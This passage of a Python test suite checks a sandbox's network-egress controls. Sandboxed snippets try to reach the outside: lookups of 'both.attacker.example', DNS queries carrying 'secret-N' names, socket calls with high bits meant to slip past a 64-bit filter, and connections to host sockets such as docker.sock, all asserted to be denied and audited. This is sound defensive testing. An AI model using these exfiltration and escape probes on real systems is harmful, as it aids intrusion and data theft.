    r"""The audit writes what is not printable as \xNN."""
    return command.encode().decode("unicode_escape") if command else command


Seen.main_pid = property(lambda seen: 2)


class Denied(Rows):
    def test_destinations(self):
        self.check_rows(destination_rows())

    def test_names(self):
        self.check_rows(name_rows())

    def test_ways_to_send(self):
        self.check_rows(way_rows())


    def test_names_of_the_library(self):
        self.check_rows(library_rows(every=not self.allowed))

    def test_both_families_at_once(self):
        """getaddrinfo() without a family asks twice if it can; how often it tries when it can't is the C library's choice."""
        seen = watch(self.service, "attempt('both', lambda: socket.getaddrinfo('both.attacker.example', 443))")
        events = seen.audit["events"]
        self.assertEqual((seen.tries[0]["error"], seen.tries[0]["errno"]), UNKNOWN_NAME)
        self.assertEqual({(e["dns_name"], e["address"], e["port"], e["pid"]) for e in events}, {("both.attacker.example", "127.0.0.1", 53, 2)})
        self.assertIn(sum(e["count"] for e in events), (2,) if self.allowed else (1, 2))
        self.assertEqual(seen.answer["egress"]["attempts"], sum(e["count"] for e in events))
        self.assertEqual(len(seen.heard), 2 if self.allowed else 0)


class Allowed(Denied):
    """The same rows under allow-all: everything that was denied above does arrive."""

    options, allowed = ("--policy", ALLOW_ALL), True


class Sockets(unittest.TestCase):
    """Families, types and protocols that a snippet can't have at all: they fail before there is anything to send."""

    FAMILIES = {0: "UNSPEC", 3: "AX25", 4: "IPX", 5: "APPLETALK", 9: "X25", 15: "KEY", 16: "NETLINK", 17: "PACKET", 21: "RDS", 29: "CAN",
                30: "TIPC", 31: "BLUETOOTH", 33: "RXRPC", 36: "IEEE802154", 38: "ALG", 39: "NFC", 40: "VSOCK", 41: "KCM", 42: "QIPCRTR",
                43: "SMC", 44: "XDP", 45: "MCTP", 46: "46", 255: "255", 65535: "65535"}
    INET = ((2, 1, "ping"), (2, 58, "ping6"), (1, 132, "SCTP"), (5, 132, "SCTP packets"), (6, 33, "DCCP"), (2, 33, "DCCP datagrams"), (2, 136, "UDP-Lite"),
            (1, 262, "MPTCP"), (1, 256, "SMC"), (2, 115, "L2TP"), (3, 0, "raw"), (3, 1, "raw ICMP"), (3, 6, "raw TCP"), (3, 17, "raw UDP"), (3, 58, "raw ICMPv6"),
            (3, 255, "raw IP"), (1, 17, "stream of UDP"), (2, 6, "datagrams of TCP"), (4, 0, "RDM"), (5, 0, "SEQPACKET"), (10, 0, "obsolete PACKET"), (1, 99, "99"), (2, 99, "99"))
    CODE = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
SOCKET, SOCKETPAIR = 41, 53

def made(nr, *args):
    fds = (ctypes.c_int * 2)()
    fd = libc.syscall(ctypes.c_long(nr), *(ctypes.c_ulong(a) for a in args), fds)
    return fd if fd < 0 else os.close(fd) or 0

for family, kind, protocol in %r:
    for high in (0, 1 << 32, 1 << 63):  # the kernel reads 32 bits; a filter that reads 64 lets these through
        for flags in (0, socket.SOCK_NONBLOCK | socket.SOCK_CLOEXEC):
            attempt("%%d/%%d/%%d %%x %%x" %% (family, kind, protocol, high, flags), lambda: check(made(SOCKET, family | high, kind | flags | high, protocol | high)))
    attempt("%%d/%%d/%%d pair" %% (family, kind, protocol), lambda: check(made(SOCKETPAIR, family, kind, protocol)))
"""

    @classmethod
    def setUpClass(cls):
        cls.service = Service(pool=1)

    @classmethod
    def tearDownClass(cls):
        cls.service.stop()

    def test_refused(self):
        wanted = [(f, k, 0) for f in self.FAMILIES for k in (1, 2, 3, 5)] + [(f, k, p) for f in (2, 10) for k, p, _ in self.INET]
        # The counter-proof: this kernel has a good part of them, so it is the sandbox that refuses.
        here = [w for w in wanted if self.can_make(*w)]
        self.assertGreaterEqual({f for f, _, _ in here}, {16, 17, 2, 10})
        self.assertGreaterEqual(len(here), 10, here)
        seen = watch(self.service, self.CODE % (wanted,), timeout_s=30)
        self.assertEqual(seen.answer["stderr"], "")
        self.assertEqual(len(seen.tries), 7 * len(wanted))
        self.assertEqual([t for t in seen.tries if t["error"] is None or t["ms"] > AT_ONCE_MS * SLOW], [])
        errnos = {errno.errorcode[t["errno"]] for t in seen.tries}
        self.assertLessEqual(errnos, {"EPERM", "EAFNOSUPPORT", "EPROTONOSUPPORT", "ENOSYS"})
        self.assertEqual((seen.audit["egress"]["attempts"], seen.packets, seen.heard), (0, [], []))

    @staticmethod
    def can_make(family, kind, protocol):
        try:
            socket.socket(family, kind, protocol).close()
            return True
        except OSError:
            return False

    def test_unix_sockets_among_its_own(self):
        """They work, by path, abstract name and pair, and reach nothing of the host."""
        name = "\0weir-test-%d" % os.getpid()
        with socket.socket(socket.AF_UNIX) as host:
            host.bind(name)
            host.listen(4)
            host.settimeout(0.2)
            with socket.socket(socket.AF_UNIX) as other:
                other.connect(name)  # the counter-proof: here it can be reached
                host.accept()[0].close()
            seen = watch(self.service, """
def own(name):
    with socket.socket(socket.AF_UNIX) as server, socket.socket(socket.AF_UNIX) as client:
        server.bind(name)
        server.listen()
        client.connect(name)
        with server.accept()[0] as s:
            client.send(b"hello")
            return s.recv(9).decode()

def to(name):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(name)

attempt("path", lambda: own("/tmp/own"))
attempt("abstract", lambda: own("\\0own"))
attempt("host", lambda: to(%r))
for path in ("/run/dbus/system_bus_socket", "/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/weir.sock"):
    attempt(path, lambda: to(path))
""" % name)
            with self.assertRaises(TimeoutError):
                host.accept()
        ends = {t["label"]: (t["value"], t["error"]) for t in seen.tries}
        self.assertEqual((ends.pop("path"), ends.pop("abstract")), (("hello", None), ("hello", None)))
        self.assertEqual(ends.pop("host"), (None, "ConnectionRefusedError"))
        self.assertEqual(set(ends.values()), {(None, "FileNotFoundError")})
        self.assertEqual(seen.audit["egress"]["attempts"], 0)

    def test_own_server_on_loopback(self):
        """Listening works; connecting to oneself is an attempt like any other, and fails at once instead of hanging."""
        seen = watch(self.service, """
async def serve_and_connect():
    server = await asyncio.start_server(lambda r, w: w.close(), "127.0.0.1", 8000)
    await async_connect(("127.0.0.1", 8000))

attempt("asyncio", lambda: asyncio.run(serve_and_connect()))
import http.server
attempt("http", lambda: http.server.HTTPServer(("::1" if False else "127.0.0.1", 8001), None).socket.getsockname()[1])
""")
        self.assertEqual([(t["error"], t["value"]) for t in seen.tries], [("PermissionError", None), (None, 8001)])
        self.assertEqual([(e["protocol"], e["address"], e["port"], e["verdict"], e["count"]) for e in seen.audit["events"]], [("tcp", "127.0.0.1", 8000, "denied", 1)])


class Flood(unittest.TestCase):
    """More attempts than anybody wants to read: counted exactly, told in bounded detail, at nobody else's cost."""

    SENDS, NAMES, PORTS, CHILDREN = 100000, 5000, 5000, 4
    LISTED = 1024  # LIMIT_AUDIT_FLOWS

    CODE = """
s = socket.socket(INET, DGRAM)
refused = 0

def send(payload, address):
    global refused
    try:
        s.sendto(payload, address)
    except PermissionError:
        refused += 1
"""

    @classmethod
    def setUpClass(cls):
        cls.service = Service(pool=2)
        cls.service.wait_warm()

    @classmethod
    def tearDownClass(cls):
        cls.service.stop()

    def run_snippet(self, code, **fields):
        answer = self.service.run("open('tries.py', 'w').write(%r)\nfrom tries import *\n%s%s" % (INSIDE, self.CODE, code), **fields)
        self.assertEqual(answer["stderr"], "")
        return answer, self.service.audit(answer["run_id"])

    def flood(self):
        return self.run_snippet("""
for _ in range(%d): send(b"x", ("192.0.2.1", 9999))
for i in range(%d):
    name = b"secret-%%d" %% i
    send(bytes(4) + bytes([0, 1]) + bytes(6) + bytes([len(name)]) + name + b"\\0\\0\\1\\0\\1", ("192.0.2.2", 53))
for i in range(%d): send(b"x", ("192.0.2.3", 10000 + i))
print(refused)
""" % (self.SENDS, self.NAMES, self.PORTS), timeout_s=60)

    def modest(self):
        """Three hundred destinations, spread over the time of the flood."""
        return self.run_snippet("""
for i in range(300):
    send(b"x", ("198.51.100.%d" % (i % 250), 9000 + i))
    time.sleep(0.003)
print(refused)
""")

    def test_flood_is_exact_and_bounded_and_costs_nobody_else(self):
        results = {}
        threads = [threading.Thread(target=lambda n=n, f=f: results.update({n: f()})) for n, f in (("flood", self.flood), ("modest", self.modest))]
        for t in threads:
            t.start()
        for t in threads:
            t.join(120 * SLOW)
        answer, audit = results["flood"]
        total = self.SENDS + self.NAMES + self.PORTS
        self.assertEqual(answer["stdout"], "%d\n" % total)
        egress, events = answer["egress"], audit["events"]
        self.assertEqual((egress["attempts"], egress["denied"], egress["allowed"]), (total, total, 0))
        # One entry has the whole flood, the next thousand have one each; the rest is counted as what it is, lost.
        self.assertEqual(len(events), self.LISTED)
        self.assertEqual(egress["lost"], total - sum(e["count"] for e in events))
        self.assertEqual(egress["lost"], self.NAMES + self.PORTS - (self.LISTED - 1))
        self.assertEqual((events[0]["address"], events[0]["port"], events[0]["count"]), ("192.0.2.1", 9999, self.SENDS))
        self.assertEqual([e["dns_name"] for e in events[1:]], ["secret-%d" % i for i in range(self.LISTED - 1)])
        self.assertEqual({e["count"] for e in events[1:]}, {1})
        self.assertEqual(len(egress["destinations"]), 16)
        self.assertEqual((egress["destinations"][0]["address"], egress["destinations"][0]["count"]), ("192.0.2.1", self.SENDS))
        self.assertEqual([d["dns_name"] for d in egress["destinations"][1:]], ["secret-%d" % i for i in range(15)])
        self.assertEqual(audit["egress"], dict({k: egress[k] for k in ("attempts", "denied", "allowed", "lost")}, exact=True))

        answer, audit = results["modest"]
        self.assertEqual(answer["stdout"], "300\n")
        self.assertEqual({k: answer["egress"][k] for k in ("attempts", "denied", "lost")}, {"attempts": 300, "denied": 300, "lost": 0})
        self.assertEqual([(e["address"], e["port"], e["count"]) for e in audit["events"]],
                         [("198.51.100.%d" % (i % 250), 9000 + i, 1) for i in range(300)])

        # And nothing of it stays in the kernel's tables.
        self.service.wait_warm()
        self.assertEqual(pinned_entries(self.service, "flows"), 0)
        self.assertEqual(pinned_entries(self.service, "sandboxes"), 2)

    def test_counts_are_exact_from_several_processes_at_once(self):
        answer, audit = self.run_snippet("""
pids = []
for n in range(%d):
    pid = os.fork()
    if pid == 0:
        t = threading.Thread(target=lambda: [send(b"x", ("192.0.2.1", 9999)) for _ in range(2500)])
        t.start()
        for _ in range(2500): send(b"x", ("192.0.2.1", 9999))
        for i in range(100): send(b"x", ("192.0.2.2", 20000 + i))
        t.join()
        os._exit(0)
    pids.append(pid)
for pid in pids: os.waitpid(pid, 0)
""" % self.CHILDREN)
        total = self.CHILDREN * 5100
        self.assertEqual({k: answer["egress"][k] for k in ("attempts", "denied", "lost")}, {"attempts": total, "denied": total, "lost": 0})
        counts = {(e["address"], e["port"]): e["count"] for e in audit["events"]}
        want = {("192.0.2.2", 20000 + i): self.CHILDREN for i in range(100)}
        want["192.0.2.1", 9999] = self.CHILDREN * 5000
        self.assertEqual(counts, want)

    def test_what_is_sent_last_is_there(self):
        """However a run ends: its last attempt, and the last of a loop."""
        for how, reason in (("os._exit(0)", "exit"), ("os.kill(os.getpid(), 9)", "signal"), ("while True: n += 1; send(b'x', ('192.0.2.2', 9999)); n % 1000 or print(n)", "timeout")):
            with self.subTest(how=how):
                answer = self.service.run("open('tries.py', 'w').write(%r)\nfrom tries import *\n%s\nn = 0\nsend(b'x', ('192.0.2.1', 9999))\n%s" % (INSIDE, self.CODE, how), timeout_s=max(1, round(SLOW / 2)))
                audit = self.service.audit(answer["run_id"])
                self.assertEqual(answer["termination"]["reason"], reason)
                counts = {e["address"]: e["count"] for e in audit["events"]}
                self.assertEqual(counts.pop("192.0.2.1"), 1)
                printed = int((answer["stdout"].split() or [0])[-1])
                self.assertEqual(sum(counts.values()) + 1, answer["egress"]["attempts"])
                self.assertTrue(printed <= sum(counts.values()) <= printed + 1000, (printed, counts))
                self.assertEqual((answer["egress"]["denied"], answer["egress"]["lost"]), (answer["egress"]["attempts"], 0))


if __name__ == "__main__":
    unittest.main()
